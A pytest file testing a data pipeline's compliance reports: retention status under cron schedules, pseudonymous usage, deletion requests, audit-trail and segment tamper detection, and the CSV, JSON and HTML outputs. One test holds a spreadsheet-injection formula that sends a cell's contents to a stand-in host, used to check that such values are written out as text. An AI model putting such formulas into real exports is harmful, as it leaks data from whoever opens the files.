"""Compliance reports: sections, numbers, formats, names only on request, the clock moved past retention."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import dask.config
import pytest
from click.testing import CliRunner, Result
from conftest import make_record
from freezegun import freeze_time
from sqlalchemy import select, update

from pipeline.cli import main
from pipeline.db import audit_log, segments
from pipeline.processes import namespace
from pipeline.reports import build_report, write_report
from pipeline.reports.model import TABLE_COLUMNS
from pipeline.reports.render import HTML_ROWS
from pipeline.reports.residue import IDLE_AFTER
from pipeline.retention.enforcer import enforce
from pipeline.retention.requests import file_request, process_pending
from pipeline.runtime import Pipeline

T0 = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
DAYS = 40
ACCOUNTS = ("acme", "globex")


def write_demo_records(pipeline: Pipeline, t0: datetime = T0) -> dict[str, dict[str, Any]]:
    """Demo-like history: per account and day one finished job and two cluster snapshots 30 min apart.

    Returns the usage each account must show.
    """
    records, expected = [], {}
    for n, account in enumerate(ACCOUNTS, start=1):
        expected[account] = {"jobs": DAYS, "tasks_completed": 0, "tasks_erred": 0, "compute_seconds": 0.0}
        records.append(
            make_record(
                "account",
                account=account,
                user=f"user{n}",
                observed_at=t0 - timedelta(days=DAYS),
                username=f"user{n}",
                email=f"user{n}@{account}.test",
                team="data",
                quotas={},
            )
        )
        records.append(
            make_record(
                "software_env",
                account=account,
                observed_at=t0 - timedelta(days=DAYS),
                env_id=f"env-{account}",
                python_version="3.11",
                packages={"dask": "2026.8.0"},
            )
        )
        for day in range(DAYS):
            start = t0 - timedelta(days=day, hours=2)
            cluster = f"{account}-cluster-{day}"
            job = {"job_id": f"{account}-{day}", "started_at": start, "tasks_total": 100 * n, "task_prefixes": ["inc"]}
            if day == 0:  # reported while running at close, then again when finished: counted once, final numbers
                records.append(
                    make_record(
                        "job",
                        account=account,
                        cluster_id=cluster,
                        observed_at=start,
                        **job,
                        tasks_completed=1,
                        tasks_erred=0,
                        compute_seconds=1.0,
                        peak_memory_bytes=1,
                    )
                )
            completed, erred, seconds = 100 * n - day % 3, day % 3, 60.0 * n + day
            records.append(
                make_record(
                    "job",
                    account=account,
                    cluster_id=cluster,
                    observed_at=start + timedelta(minutes=20),
                    **job,
                    finished_at=start + timedelta(minutes=20),
                    tasks_completed=completed,
                    tasks_erred=erred,
                    compute_seconds=seconds,
                    peak_memory_bytes=2**30 * n,
                )
            )
            expected[account]["tasks_completed"] += completed
            expected[account]["tasks_erred"] += erred
            expected[account]["compute_seconds"] += seconds
            for minutes in (0, 30):
                records.append(
                    make_record(
                        "cluster_snapshot",
                        account=account,
                        cluster_id=cluster,
                        observed_at=start + timedelta(minutes=minutes),
                        n_workers=2,
                        n_threads=2,
                        memory_process_bytes=2**29 * n,
                    )
                )
        expected[account].update(clusters=DAYS, cluster_hours=DAYS * 0.5, peak_memory_bytes=2**30 * n)
    pipeline.write_records(records)
    return expected


def run(*args: str) -> Result:
    return CliRunner().invoke(main, list(args))


@pytest.fixture
def pipeline(home: Path) -> Pipeline:
    return Pipeline.open(create=True)


def retention_rows(document: dict[str, Any]) -> dict[tuple[str, str], dict[str, Any]]:
    return {(r["store"], r["data_type"]): r for r in document["retention"]["rows"]}


def test_after_enforce_the_report_shows_no_overdue_records_in_every_format(pipeline: Pipeline, tmp_path: Path) -> None:
    write_demo_records(pipeline)
    enforce(pipeline, now=T0)
    out = tmp_path / "reports"
    result = run("report", "--out", str(out), "--now", T0.isoformat())
    assert result.exit_code == 0, result.output
    assert "retention PASS (0 records past their limit)" in result.output
    assert {"report.html", "report.json", "inventory.csv", "retention.csv", "usage_accounts.csv"} <= {
        p.name for p in out.iterdir()
    }
    document = json.loads((out / "report.json").read_text())
    assert document["retention"]["status"] == "PASS" and document["retention"]["overdue"] == 0
    rows = retention_rows(document)
    assert rows[("cloud_logging", "cluster_jobs")]["oldest_age_days"] <= 30
    assert rows[("long_term", "cluster_jobs")]["oldest_age_days"] > 39  # kept until deleted
    inventory = {(r["store"], r["data_type"]): r for r in document["inventory"]}
    assert inventory[("long_term", "cluster_jobs")]["records"] == len(ACCOUNTS) * (DAYS * 3 + 1)
    assert inventory[("cloud_logging", "cluster_jobs")]["records"] == len(ACCOUNTS) * (30 * 3 + 1)
    assert inventory[("long_term", "account")]["accounts"] == 2
    assert ("cloud_logging", "account") not in inventory  # the policy never routes account data there
    last_pass = document["audit"]["last_retention_pass"]
    assert document["audit"]["intact"] and last_pass["seq"] == pipeline.audit.last("retention.pass").seq


def test_with_the_clock_moved_31_days_and_no_enforce_logging_records_are_overdue(
    pipeline: Pipeline, tmp_path: Path
) -> None:
    write_demo_records(pipeline)
    enforce(pipeline, now=T0)
    with freeze_time(T0 + timedelta(days=31)):
        result = run("report", "--out", str(tmp_path / "late"), "--format", "json,html")
    assert result.exit_code == 0, result.output
    assert "retention FAIL" in result.output
    document = json.loads((tmp_path / "late" / "report.json").read_text())
    rows = retention_rows(document)
    logging_jobs = rows[("cloud_logging", "cluster_jobs")]
    assert logging_jobs["status"] == "FAIL"
    assert logging_jobs["overdue"] == len(ACCOUNTS) * (30 * 3 + 1)  # every record left after the pass on day 0
    assert logging_jobs["oldest_age_days"] > 31
    assert rows[("long_term", "cluster_jobs")]["status"] == "PASS"
    assert document["retention"] == {**document["retention"], "status": "FAIL", "overdue": logging_jobs["overdue"]}
    html = (tmp_path / "late" / "report.html").read_text()
    assert re.search(r"cloud_logging</td><td>cluster_jobs</td>.*?badge FAIL", html, flags=re.S)


SUNDAY = datetime(2026, 3, 8, 12, 0, tzinfo=UTC)


@pytest.mark.parametrize(
    ("cron", "last_pass", "report_at", "missed"),
    [
        ("0 * * * *", T0, T0 + timedelta(minutes=50), None),  # aged past the limit since: the next pass's
        ("0 * * * *", T0, T0 + timedelta(hours=1, minutes=50), T0 + timedelta(hours=1)),  # 13:00 never ran
        ("0 12 * * *", T0, T0 + timedelta(hours=23), None),  # a daily schedule waits a day
        ("0 3 * * 1-5", SUNDAY - timedelta(days=2, hours=9), SUNDAY, None),  # Friday's ran, Monday's is next
        (
            "0 3 * * 1-5",
            SUNDAY - timedelta(days=6, hours=9),
            SUNDAY - timedelta(days=2, hours=10),
            SUNDAY - timedelta(days=3, hours=9),
        ),
    ],
    ids=["hourly", "hourly-missed", "daily", "weekdays", "weekdays-missed"],
)
def test_records_are_overdue_only_once_the_pass_that_removes_them_is_missed(
    pipeline: Pipeline, tmp_path: Path, cron: str, last_pass: datetime, report_at: datetime, missed: datetime | None
) -> None:
    """A snapshot every 10 minutes: between two passes the oldest ones age past 30 days. A report then said
    FAIL on a healthy service; measured by the next two passes' interval, a weekday schedule said FAIL over
    the weekend, and PASS on the Friday before which Tuesday's to Thursday's passes never ran."""
    times = [report_at - timedelta(minutes=10 * i) for i in range(6 * 24 * 40)]
    pipeline.write_records(make_record("cluster_snapshot", account="acme", observed_at=t) for t in times)
    enforce(pipeline, now=last_pass)
    with dask.config.set({"pipeline.service.retention-cron": cron}):
        result = run("report", "--out", str(tmp_path / "r"), "--format", "json", "--now", report_at.isoformat())
    assert result.exit_code == 0, result.output
    rows = retention_rows(json.loads((tmp_path / "r" / "report.json").read_text()))
    limit = timedelta(days=30)
    expected = 0 if missed is None else sum(last_pass - limit <= t < missed - limit for t in times)
    assert rows[("cloud_logging", "cluster_jobs")]["overdue"] == expected and (missed is None or expected)


def test_a_schedule_that_never_runs_counts_every_record_past_its_limit(pipeline: Pipeline, tmp_path: Path) -> None:
    """A cron of 31 February: the report was a traceback (no next pass to measure an interval with)."""
    pipeline.write_records([make_record("cluster_snapshot", account="acme", observed_at=T0 - timedelta(days=31))])
    with dask.config.set({"pipeline.service.retention-cron": "0 0 31 2 *"}):
        result = run("report", "--out", str(tmp_path / "r"), "--format", "json", "--now", T0.isoformat())
    assert result.exit_code == 0, result.output
    assert (
        retention_rows(json.loads((tmp_path / "r" / "report.json").read_text()))[("cloud_logging", "cluster_jobs")][
            "overdue"
        ]
        == 1
    )


def test_usage_per_account_is_exact_and_pseudonymous_by_default(pipeline: Pipeline) -> None:
    expected = write_demo_records(pipeline)
    report = build_report(pipeline, now=T0)
    by_ref = {row["subject_ref"]: row for row in report.usage}
    for account, want in expected.items():
        row = by_ref[pipeline.subject_ref(account)]
        assert "account" not in row
        assert row["jobs"] == want["jobs"]
        assert row["tasks_completed"] == want["tasks_completed"]
        assert row["tasks_erred"] == want["tasks_erred"]
        assert row["compute_hours"] == pytest.approx(want["compute_seconds"] / 3600, abs=1e-6)
        assert row["clusters"] == want["clusters"]
        assert row["cluster_hours"] == pytest.approx(want["cluster_hours"])
        assert row["peak_memory_bytes"] == want["peak_memory_bytes"]
        daily = [d for d in report.usage_daily if d["subject_ref"] == row["subject_ref"]]
        assert len(daily) == DAYS and sum(d["jobs"] for d in daily) == DAYS
    assert {"records_by_day", "compute_hours", "tasks_completed", "cluster_hours"} == set(report.plots)
    assert all(png.startswith(b"\x89PNG") for png in report.plots.values())


def _finished_job(cluster_id: str, job_id: str, tasks: int, seconds: float) -> dict[str, Any]:
    return make_record(
        "job",
        cluster_id=cluster_id,
        job_id=job_id,
        observed_at=T0,
        started_at=T0 - timedelta(hours=1),
        finished_at=T0,
        tasks_total=tasks,
        tasks_completed=tasks,
        tasks_erred=0,
        compute_seconds=seconds,
    )


def test_a_job_id_another_cluster_sends_does_not_replace_that_clusters_job(pipeline: Pipeline) -> None:
    """Job ids are a cluster's own: one cluster (code of another member of the account) sending a job
    under an id it read of another's is a job of its own, not the other's newest record."""
    pipeline.write_records(
        [_finished_job("ann-cluster", "job-1", 1_000, 36_000.0), _finished_job("bob-cluster", "job-1", 1, 0.1)]
    )
    (row,) = build_report(pipeline, now=T0).usage
    assert (row["jobs"], row["tasks_completed"]) == (2, 1_001)
    assert row["compute_hours"] == pytest.approx(36_000.1 / 3600, abs=1e-6)


def test_usage_past_what_64_bits_hold_is_reported_exactly_in_every_format(pipeline: Pipeline, tmp_path: Path) -> None:
    """1,100 jobs at the largest count ingest takes add up past 2**63: every format still reports, exactly."""
    biggest = 2**53
    pipeline.write_records([_finished_job("cluster-1", f"job-{n}", biggest, float(biggest)) for n in range(1_100)])
    report = build_report(pipeline, now=T0)
    assert report.usage[0]["tasks_completed"] == 1_100 * biggest > 2**63
    for fmt in ("json", "csv", "html"):
        result = run("report", "--format", fmt, "--out", str(tmp_path / fmt), "--now", T0.isoformat())
        assert result.exit_code == 0, result.output
    document = json.loads((tmp_path / "json" / "report.json").read_text())
    assert document["usage"]["accounts"][0]["tasks_completed"] == 1_100 * biggest


def test_names_appear_only_with_show_names(pipeline: Pipeline, tmp_path: Path) -> None:
    write_demo_records(pipeline)
    assert run("report", "--out", str(tmp_path / "plain"), "--now", T0.isoformat()).exit_code == 0
    for path in (tmp_path / "plain").iterdir():
        # An embedded plot's base64 may spell "acme" by chance; its labels come from account_label.
        text = re.sub(r"data:image/png;base64,[A-Za-z0-9+/=]+", "", path.read_text())
        assert "acme" not in text and "globex" not in text and "user1" not in text, path.name
    assert run("report", "--out", str(tmp_path / "named"), "--show-names", "--format", "json,html").exit_code == 0
    document = json.loads((tmp_path / "named" / "report.json").read_text())
    assert document["names_shown"] is True
    assert {row["account"] for row in document["usage"]["accounts"]} == set(ACCOUNTS)
    assert '<td class="" title=' in (tmp_path / "named" / "report.html").read_text()


def test_deletion_requests_by_state_time_to_completion_and_overdue(pipeline: Pipeline) -> None:
    write_demo_records(pipeline)
    done = file_request(pipeline, "acme", reason="GDPR art. 17", now=T0)
    with freeze_time(T0 + timedelta(hours=2)):
        process_pending(pipeline)
    waiting = file_request(pipeline, "globex", now=T0 + timedelta(hours=3))

    on_time = build_report(pipeline, now=T0 + timedelta(days=1), plots=False).deletion_requests
    assert (on_time["total"], on_time["completed"], on_time["open"], on_time["overdue"]) == (2, 1, 1, 0)
    assert on_time["median_hours_to_complete"] == on_time["max_hours_to_complete"] == pytest.approx(2.0, abs=0.01)

    late = build_report(pipeline, now=T0 + timedelta(days=31), plots=False).deletion_requests
    assert late["overdue"] == 1
    by_state = {row["state"]: row for row in late["by_state"]}
    assert by_state["pending"]["overdue"] == 1 and by_state["completed"]["requests"] == 1
    listed = {row["request_id"]: row for row in late["requests"]}
    assert listed[waiting.request_id]["overdue"] is True
    assert listed[done.request_id]["state"] == "completed" and listed[done.request_id]["overdue"] is False


def test_audit_section_names_the_first_bad_entry_of_a_tampered_trail(pipeline: Pipeline) -> None:
    write_demo_records(pipeline)
    clean = build_report(pipeline, now=T0, plots=False).audit
    assert clean["intact"] and clean["entries"] == clean["verified_entries"] >= 3
    assert {row["action"] for row in clean["by_action"]} >= {"policy.loaded", "key.created"}
    with pipeline.keyring.engine.begin() as conn:
        conn.execute(update(audit_log).where(audit_log.c.seq == 2).values(actor="someone-else"))
    broken = build_report(pipeline, now=T0, plots=False).audit
    assert (broken["intact"], broken["first_bad_seq"]) == (False, 2)
    assert broken["status"] == "audit trail broken at entry 2: content does not match its hash (altered)"


def test_a_retention_pass_entry_altered_into_another_shape_is_a_fail_row_not_a_crash(pipeline: Pipeline) -> None:
    write_demo_records(pipeline)
    enforce(pipeline, now=T0)
    seq = pipeline.audit.last("retention.pass").seq
    with pipeline.keyring.engine.begin() as conn:
        conn.execute(update(audit_log).where(audit_log.c.seq == seq).values(details='{"backend_retention": 5}'))
    report = build_report(pipeline, now=T0, plots=False)
    failed = [r for r in report.retention if r["status"] == "FAIL"]
    assert [r["data_type"] for r in failed] == [f"- (last pass: audit entry {seq} does not read as a retention pass)"]
    assert (report.audit["intact"], report.audit["first_bad_seq"]) == (False, seq)


def test_csv_writes_one_file_per_table_with_the_json_numbers(pipeline: Pipeline, tmp_path: Path) -> None:
    write_demo_records(pipeline)
    report = build_report(pipeline, now=T0, plots=False)
    written = write_report(report, tmp_path, ["csv", "json"])
    assert {p.name for p in written} == {f"{name}.csv" for name in report.tables()} | {"report.json"}
    with open(tmp_path / "retention.csv") as fh:
        rows = list(csv.DictReader(fh))
    document = json.loads((tmp_path / "report.json").read_text())
    assert [(r["store"], r["data_type"], int(r["overdue"]), r["status"]) for r in rows] == [
        (r["store"], r["data_type"], r["overdue"], r["status"]) for r in document["retention"]["rows"]
    ]


def _csv_headers(folder: Path) -> dict[str, list[str]]:
    return {path.stem: next(csv.reader(io.StringIO(path.read_text()))) for path in folder.glob("*.csv")}


def test_every_csv_has_its_header_whether_or_not_it_has_rows(pipeline: Pipeline, tmp_path: Path) -> None:
    """A reader of the CSV files finds the same columns in an empty home as after a month of records and a
    retention pass (an empty table was one blank line; audit.csv lost a column after the first pass)."""
    write_report(build_report(pipeline, now=T0, plots=False), tmp_path / "empty", ["csv"])
    write_demo_records(pipeline)
    enforce(pipeline, now=T0)
    write_report(build_report(pipeline, now=T0, plots=False), tmp_path / "full", ["csv"])
    empty, full = _csv_headers(tmp_path / "empty"), _csv_headers(tmp_path / "full")
    assert empty == full == {name: [c for c in columns if c != "account"] for name, columns in TABLE_COLUMNS.items()}
    with open(tmp_path / "full" / "audit.csv") as fh:
        (audit,) = csv.DictReader(fh)
    assert json.loads(audit["last_retention_pass"])["seq"] > 0


def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(pipeline: Pipeline, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    pipeline.write_records([make_record("cluster_snapshot", account=formula, observed_at=T0)])
    write_report(build_report(pipeline, now=T0, plots=False, show_names=True), tmp_path, ["csv"])
    assert _csv_headers(tmp_path)["usage_accounts"] == list(TABLE_COLUMNS["usage_accounts"])
    with open(tmp_path / "usage_accounts.csv") as fh:
        (row,) = csv.DictReader(fh)
    assert row["account"] == "'" + formula


def test_html_is_one_self_contained_file_with_embedded_plots(pipeline: Pipeline, tmp_path: Path) -> None:
    write_demo_records(pipeline)
    write_report(build_report(pipeline, now=T0), tmp_path, ["html"])
    html = (tmp_path / "report.html").read_text()
    assert len(re.findall(r'<img [^>]*src="data:image/png;base64,', html)) == 4
    assert not re.search(r'(src|href)="(?!data:)', html)  # nothing fetched from elsewhere
    for heading in ("Inventory", "Retention compliance", "Deletion requests", "Audit trail", "Usage per account"):
        assert f"<h2>{heading}</h2>" in html


def test_an_empty_home_still_reports(pipeline: Pipeline, tmp_path: Path) -> None:
    result = run("report", "--out", str(tmp_path), "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["retention"] == "PASS"
    document = json.loads((tmp_path / "report.json").read_text())
    assert document["usage"]["accounts"] == [] and document["deletion_requests"]["total"] == 0


def test_unknown_format_is_bad_usage(home: Path, tmp_path: Path) -> None:
    result = run("report", "--out", str(tmp_path), "--format", "html,pdf")
    assert result.exit_code == 2 and "choose from html, json, csv" in result.output


def test_a_repeated_format_adds_to_the_others(home: Path, tmp_path: Path) -> None:
    """click kept the last ``--format`` only: ``--format json --format csv`` wrote no JSON."""
    run("init")
    result = run("report", "--out", str(tmp_path / "r"), "--format", "json", "--format", "csv")
    assert result.exit_code == 0, result.output
    assert (tmp_path / "r" / "report.json").exists() and list((tmp_path / "r").glob("*.csv"))
    assert not (tmp_path / "r" / "report.html").exists()


@pytest.mark.parametrize("command", [["report"], ["audit", "export"], ["clusters", "create", "--account", "acme"]])
def test_an_empty_out_folder_is_bad_usage(
    home: Path, tmp_path: Path, command: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """``--out "$UNSET"`` wrote the files into the current folder."""
    monkeypatch.chdir(tmp_path)  # not the checkout's
    run("init")
    result = run(*command, "--out", "")
    assert result.exit_code == 2 and "'--out': must name a folder, not be empty" in result.stderr


def test_an_empty_home_is_bad_input(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """``DASK_PIPELINE__HOME=`` made the current folder the home, and left a database there."""
    monkeypatch.chdir(tmp_path)
    with dask.config.set({"pipeline.home": ""}):
        result = run("records")
    assert (result.exit_code, result.stderr) == (2, "error: pipeline.home: must name a folder, not be empty\n")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("cut", [False, True], ids=["flipped", "truncated"])
def test_an_altered_segment_is_named_and_marked_and_the_rest_reported(
    pipeline: Pipeline, tmp_path: Path, cut: bool
) -> None:
    """Truncated (shorter than a nonce): a traceback, and no report at all."""
    write_demo_records(pipeline)
    with pipeline.keyring.engine.begin() as conn:
        segment_id, payload = conn.execute(select(segments.c.segment_id, segments.c.payload).limit(1)).one()
        altered = payload[:5] if cut else payload[:-1] + bytes([payload[-1] ^ 1])
        conn.execute(update(segments).where(segments.c.segment_id == segment_id).values(payload=altered))
    result = run("report", "--out", str(tmp_path))
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"unreadable segment {segment_id} in long_term: segment {segment_id} does not decrypt: altered or wrong key",
        "check failed: 1 segment(s) could not be read; every other record was shown",
    ]
    document = json.loads((tmp_path / "report.json").read_text())
    assert [u["segment_id"] for u in document["unreadable_segments"]] == [segment_id]
    assert document["usage"]["accounts"]  # every other segment is still reported


@pytest.mark.parametrize("column", ["kind", "data_type"])
def test_a_segment_whose_header_names_no_kind_is_named_not_left_out_unseen(
    pipeline: Pipeline, tmp_path: Path, column: str
) -> None:
    """The report reads each kind on its own: a segment whose header was altered to name no kind was read
    by none, and the report said PASS (exit 0) without naming it (``bogus``: a retention row of its own)."""
    write_demo_records(pipeline)
    with pipeline.keyring.engine.begin() as conn:
        segment_id = conn.execute(select(segments.c.segment_id).limit(1)).scalar_one()
        conn.execute(update(segments).where(segments.c.segment_id == segment_id).values({column: "bogus"}))
    result = run("report", "--out", str(tmp_path), "--format", "json")
    assert result.exit_code == 1
    document = json.loads((tmp_path / "report.json").read_text())
    [skipped] = document["unreadable_segments"]
    assert (skipped["segment_id"], skipped["store"]) == (segment_id, "long_term")
    assert "names no record kind" in skipped["reason"]
    assert "bogus" not in {row["data_type"] for row in document["retention"]["rows"]}


def test_a_payload_altered_into_text_is_one_unreadable_segment_not_a_failed_scan(
    pipeline: Pipeline, tmp_path: Path
) -> None:
    """SQLite keeps any type in any column: text that is not UTF-8 failed the whole scan in its driver."""
    write_demo_records(pipeline)
    with pipeline.keyring.engine.begin() as conn:
        segment_id, payload = conn.execute(select(segments.c.segment_id, segments.c.payload).limit(1)).one()
        altered = payload[:-1] + bytes([payload[-1] ^ 1])
        conn.exec_driver_sql(
            "UPDATE segments SET payload = CAST(? AS TEXT) WHERE segment_id = ?", (altered, segment_id)
        )
        assert (
            conn.exec_driver_sql("SELECT typeof(payload) FROM segments WHERE segment_id = ?", (segment_id,)).scalar()
            == "text"
        )
    result = run("report", "--out", str(tmp_path))
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        f"unreadable segment {segment_id} in long_term: segment {segment_id} does not decrypt: altered or wrong key"
    )
    assert json.loads((tmp_path / "report.json").read_text())["usage"]["accounts"]


def test_html_shows_the_busiest_accounts_and_the_csv_every_one(pipeline: Pipeline, tmp_path: Path) -> None:
    accounts = HTML_ROWS + 20
    pipeline.write_records(
        make_record(
            "job",
            account=f"account-{n:03d}",
            observed_at=T0 - timedelta(hours=1),
            job_id=f"job-{n}",
            finished_at=T0 - timedelta(hours=1),
            tasks_completed=1,
            compute_seconds=3600.0 * (n + 1),  # account-119 used the most
        )
        for n in range(accounts)
    )
    write_report(build_report(pipeline, now=T0, plots=False), tmp_path, ["html", "csv"])
    html = (tmp_path / "report.html").read_text()
    usage = html.split("<h2>Usage per account</h2>")[1]
    shown = re.findall(r'<tr><td class="ref" title="([0-9a-f]+)"', usage)
    assert len(shown) == HTML_ROWS
    assert shown[0] == pipeline.subject_ref("account-119")
    assert pipeline.subject_ref("account-000") not in usage
    assert f"Showing the first {HTML_ROWS} of {accounts} accounts" in usage and "usage_accounts.csv" in usage
    with open(tmp_path / "usage_accounts.csv") as fh:
        assert len(list(csv.DictReader(fh))) == accounts


def test_a_stores_reader_holds_few_segments_payloads_whatever_their_width() -> None:
    """Each segment's batch is a view into its whole decrypted payload: a store's reader held every
    payload of 131,072 rows at once, so a report of wide records (environments with thousands of
    packages) grew by gigabytes with the data."""
    import pyarrow as pa

    from pipeline.reports.collect import SEGMENTS_HELD, _coalesced

    schema = pa.schema([pa.field("n", pa.int64())])
    payload = 1 << 20
    held: list[int] = []

    def segments() -> Any:
        for n in range(SEGMENTS_HELD * 8):
            decrypted = pa.allocate_buffer(payload)  # the whole record, of which the report reads one column
            memoryview(decrypted).cast("B")[:8] = n.to_bytes(8, "little")
            column = pa.Array.from_buffers(pa.int64(), 1, [None, decrypted.slice(0, 8)])  # pins the whole
            yield pa.RecordBatch.from_arrays([column], schema=schema)
            del decrypted
            held.append(pa.total_allocated_bytes())

    rows = [n for batch in _coalesced(schema, segments()) for n in batch.column(0).to_pylist()]
    assert rows == list(range(SEGMENTS_HELD * 8))
    assert max(held) - held[0] < (SEGMENTS_HELD + 2) * payload


def test_names_matplotlib_would_read_as_math_are_plotted_as_they_are(pipeline: Pipeline) -> None:
    """An account ``pay$_$day`` (accepted everywhere) made ``report --show-names`` a mathtext traceback."""
    from pipeline.reports.plots import render_plots

    job = make_record("job", account="pay$_$day", job_id="j", tasks_completed=3, observed_at=T0 - timedelta(hours=1))
    pipeline.write_records([job, make_record("job", account="_hidden", job_id="k", observed_at=T0)])
    report = build_report(pipeline, now=T0, plots=False, show_names=True)
    assert render_plots(report)


@pytest.mark.parametrize("cleaner", ["report", "enforce"])
def test_a_killed_reports_decrypted_rows_are_removed_by_the_next_report_or_pass(
    pipeline: Pipeline, tmp_path: Path, cleaner: str
) -> None:
    """A report killed mid-run left report-*/report.duckdb under the home for good: decrypted job rows that
    outlived their owner's erasure. A running report's folder (its process alive) is left alone."""

    home = pipeline.settings.home
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    gone, other = dead.stdout.strip(), "0123456789ab.4026531999"  # another container's namespace: its pids not ours
    killed = home / f"report-db-{namespace()}-{gone}-x1y2z3"
    running = home / f"report-db-{namespace()}-{os.getpid()}-a1b2c3"
    other_container = home / f"report-db-{other}-{gone}-d4e5f6"
    other_container_long_ago = home / f"report-db-{other}-1-g7h8i9"  # a pid 1 killed: pid 1 always runs
    output_named_so = home / "report-jan"  # `report --out HOME/report-jan`
    for folder in (killed, running, other_container, other_container_long_ago, output_named_so):
        folder.mkdir(mode=0o700)
        (folder / "report.duckdb").write_bytes(b"decrypted job rows")
    day_ago = time.time() - IDLE_AFTER - 60
    for path in (other_container_long_ago, other_container_long_ago / "report.duckdb"):
        os.utime(path, (day_ago, day_ago))
    args = ["report", "--out", str(tmp_path / "r"), "--format", "json"] if cleaner == "report" else ["enforce"]
    result = run(*args)
    assert result.exit_code == 0, result.output
    assert not killed.exists() and not other_container_long_ago.exists()
    assert all((kept / "report.duckdb").exists() for kept in (running, other_container, output_named_so))


class _ChangedBetweenReads:
    """A store whose header-only scan is followed at once by ``meanwhile``: a writer or a retention pass
    that lands between a report's listing of the segments and its read of their records."""

    def __init__(self, store: Any, meanwhile: Any) -> None:
        self.store, self.meanwhile = store, meanwhile

    def __getattr__(self, name: str) -> Any:
        return getattr(self.store, name)

    def scan(self, **filters: Any) -> Any:
        yield from self.store.scan(**filters)
        if filters.get("with_payload") is False and self.meanwhile is not None:
            meanwhile, self.meanwhile = self.meanwhile, None
            meanwhile()


@pytest.mark.parametrize("change", ["written", "removed"])
def test_a_report_counts_the_segments_it_read_not_those_that_came_or_went_meanwhile(
    pipeline: Pipeline, change: str
) -> None:
    """Counted by a listing of its own, a segment written meanwhile made ``unreadable_records`` negative
    (-5: its records read, not counted), and one removed meanwhile made its records unreadable."""
    write_demo_records(pipeline)
    store = pipeline.stores["long_term"]
    old = list(store.scan(data_type="cluster_jobs", kind="cluster_snapshot", with_payload=False))[0]

    def meanwhile() -> None:
        if change == "written":  # by another process: this one's stores as they are
            writer = Pipeline.open(pipeline.settings)
            writer.write_records([make_record("cluster_snapshot", account="acme") for _ in range(5)])
            writer.close()
        else:
            store.delete([old.segment_id])

    pipeline.stores["long_term"] = _ChangedBetweenReads(store, meanwhile)  # type: ignore[assignment]
    rows = {(r["store"], r["data_type"]): r for r in build_report(pipeline, plots=False).as_dict()["inventory"]}
    pipeline.stores["long_term"] = store
    after = {(r["store"], r["data_type"]): r for r in build_report(pipeline, plots=False).as_dict()["inventory"]}
    assert rows[("long_term", "cluster_jobs")]["unreadable_records"] == 0
    assert rows[("long_term", "cluster_jobs")] == after[("long_term", "cluster_jobs")]
